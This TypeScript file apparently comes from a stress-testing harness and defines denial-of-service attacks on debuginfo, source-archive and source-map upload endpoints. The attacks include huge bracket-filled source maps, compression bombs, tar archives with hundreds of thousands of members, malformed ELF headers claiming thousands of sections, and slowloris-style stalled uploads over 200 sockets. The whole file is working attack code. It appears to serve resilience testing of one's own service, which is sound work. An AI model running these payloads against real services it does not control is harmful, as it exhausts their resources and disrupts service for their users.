// Attacks with debug information, source archives and source maps, and on the paths that serve
// them.
import { gzipSync, zstdCompressSync } from 'node:zlib';
import type { Attack } from '../attack.ts';
import { shooting } from '../client.ts';
import { calling, frame, shouldUpload } from '../grpc.ts';

function upload(type: string, buildId: string): string {
  return `/api/v1/debuginfo?type=${type}&build_id=${encodeURIComponent(buildId)}`;
}

/** Uploads bodies in a loop, each with a new build id. */
function uploading(
  name: string,
  type: string,
  atOnce: number,
  bodies: () => readonly (Uint8Array | string)[],
): Attack {
  return {
    name,
    door: 'own',
    prepare: async (target) => {
      const made = bodies();
      return shooting(target, atOnce, (i) => ({
        path: upload(
          type,
          type === 'source-map' ? `/app/a${i}.js` : i.toString(16).padStart(16, '0'),
        ),
        body: made[i % made.length],
      }));
    },
  };
}

/** Makes a tar archive of empty files. */
function makeTar(members: number): Buffer {
  const tar = Buffer.alloc(512 * (members + 2));
  for (let i = 0; i < members; i += 1) {
    const at = 512 * i;
    tar.write(`src/a${i}.c`, at);
    const [id, number] = ['0000000', '00000000000'];
    tar.write(['0000644', id, id, number, number].map((one) => `${one}\0`).join(''), at + 100);
    tar.write('        0', at + 148);
    tar.write('ustar', at + 257);
    let sum = 0;
    for (let j = 0; j < 512; j += 1) sum += tar[at + j];
    tar.write(`${sum.toString(8).padStart(6, '0')}\0 `, at + 148, 'latin1');
  }
  return tar;
}

/** Makes the start of an ELF file that claims to have many large sections. */
function makeElf(bytes: number, sections: number): Buffer {
  const elf = Buffer.alloc(bytes, 1);
  elf.fill(0, 0, 64);
  elf.write('\x7fELF\x02\x01\x01', 'latin1');
  elf.writeUInt16LE(2, 16);
  elf.writeUInt16LE(62, 18);
  elf.writeUInt32LE(1, 20);
  elf.writeBigUInt64LE(64n, 40);
  elf.writeUInt16LE(64, 52);
  elf.writeUInt16LE(64, 58);
  elf.writeUInt16LE(sections, 60);
  for (let i = 1; i < sections; i += 1) {
    const at = 64 + 64 * i;
    elf.fill(0, at, at + 64);
    elf.writeUInt32LE(i % 2 ? 2 : 3, at + 4);
    elf.writeBigUInt64LE(4_096n, at + 24);
    elf.writeBigUInt64LE(BigInt(bytes - 8_192), at + 32);
    elf.writeUInt32LE(i % 2 ? i + 1 : 0, at + 40);
    elf.writeBigUInt64LE(24n, at + 56);
  }
  return elf;
}

const sourceMap = (positions: number): string =>
  `{"version":3,"sources":["a.ts"],"names":["n"],"mappings":"${'AAAAA,'.repeat(positions)}AAAA"}`;

export const uploadAttacks: readonly Attack[] = [
  // Bodies of 60 MB of brackets, two uploads at once.
  uploading('source-map-brackets', 'source-map', 2, () => ['['.repeat(60_000_000)]),
  uploading('source-map-brackets-small', 'source-map', 2, () => ['['.repeat(8_000_000)]),
  uploading('source-map-positions', 'source-map', 8, () => [sourceMap(1_900_000)]),
  uploading('source-map-names', 'source-map', 4, () => [
    `{"version":3,"sources":[${'"a",'.repeat(1_900_000)}"b"],"names":[],"mappings":""}`,
  ]),
  // Archives of 249,000 members, sixty uploads at once.
  uploading('archives-of-many-members', 'sources', 60, () => [
    gzipSync(makeTar(249_000), { level: 1 }),
  ]),
  uploading('archives-small', 'sources', 8, () => [gzipSync(makeTar(3_000), { level: 1 })]),
  uploading('archives-of-zeros', 'sources', 16, () => {
    const zeros = Buffer.alloc(256 << 20);
    return [gzipSync(zeros), zstdCompressSync(zeros)];
  }),
  uploading('debuginfo-garbage', 'debuginfo', 16, () => [makeElf(40_000_000, 40)]),
  uploading('debuginfo-sections', 'debuginfo', 16, () => [makeElf(5_000_000, 60_000)]),
  {
    name: 'upload-questions',
    door: 'parca',
    prepare: async (target) =>
      calling(target, 64, shouldUpload, (i) => {
        const id = i.toString(16).padStart(40, '0');
        return frame(Buffer.concat([Buffer.from([0x0a, 40]), Buffer.from(id)]));
      }),
  },
  {
    name: 'debuginfod-questions',
    door: 'own',
    prepare: async (target) =>
      shooting(target, 64, (i) => {
        const id = i.toString(16).padStart(40, '0');
        const ends = ['debuginfo', 'executable', 'section/.text', 'source/usr/src/main.c'];
        return { path: `/buildid/${id}/${ends[i % ends.length]}` };
      }),
  },
  {
    name: 'uploads-that-stall',
    door: 'own',
    prepare: async (target) => {
      const { connect } = await import('node:net');
      return async (signal) => {
        const sockets = Array.from({ length: 200 }, (_, i) => {
          const socket = connect(target.port, target.host).on('error', () => undefined);
          socket.write(
            `POST ${upload('debuginfo', i.toString(16).padStart(16, '0'))} HTTP/1.1\r\n` +
              'Host: x\r\nContent-Length: 900000000\r\n\r\n',
          );
          return socket;
        });
        const trickle = setInterval(() => {
          for (const socket of sockets) if (socket.writable) socket.write(Buffer.alloc(2_000));
        }, 200);
        await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }));
        clearInterval(trickle);
        for (const socket of sockets) socket.destroy();
      };
    },
  },
];
